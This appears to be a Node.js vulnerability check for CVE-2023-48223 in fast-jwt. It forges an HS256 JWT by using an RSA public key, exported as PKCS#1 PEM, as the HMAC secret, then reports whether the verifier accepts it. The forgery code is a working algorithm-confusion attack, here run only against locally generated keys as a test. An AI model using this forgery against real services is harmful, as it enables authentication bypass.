// a PKCS #1 PEM is taken for the secret of an HMAC (CVE-2023-48223)
import { createHmac, generateKeyPairSync, sign } from 'node:crypto'

process.on('uncaughtException', e => { console.error(e); process.exit(2) })
const { publicKey, privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
const b64 = x => Buffer.from(typeof x === 'object' && !Buffer.isBuffer(x) ? JSON.stringify(x) : x).toString('base64url')
function mint(header, payload) {
  const input = `${header}.${payload}`
  return `${input}.${sign('sha256', Buffer.from(input), { key: privateKey, dsaEncoding: 'ieee-p1363' }).toString('base64url')}`
}
const now = Math.floor(Date.now() / 1000)
const header = { alg: 'ES256', kid: 'k' }
const claims = { iss: 'https://issuer.test', sub: 'alice', exp: now + 600 }
const { createVerifier, TokenError } = (await import('fast-jwt')).default
const pem = publicKey.export({ format: 'pem', type: 'spki' })
const verify = async (token, options) => createVerifier({ key: pem, algorithms: ['ES256'], ...options })(token)

await verify(mint(b64(header), b64(claims))) // an honest one, or the rest says nothing
const key = generateKeyPairSync('rsa', { modulusLength: 2048 }).publicKey.export({ format: 'pem', type: 'pkcs1' })
const input = `${b64({ alg: 'HS256' })}.${b64(claims)}`
const token = `${input}.${createHmac('sha256', key).update(input).digest('base64url')}`
let seen = true
try { createVerifier({ key })(token) } catch { seen = false }
console.log(seen ? 'accepted' : 'refused')
process.exit(seen ? 0 : 1)
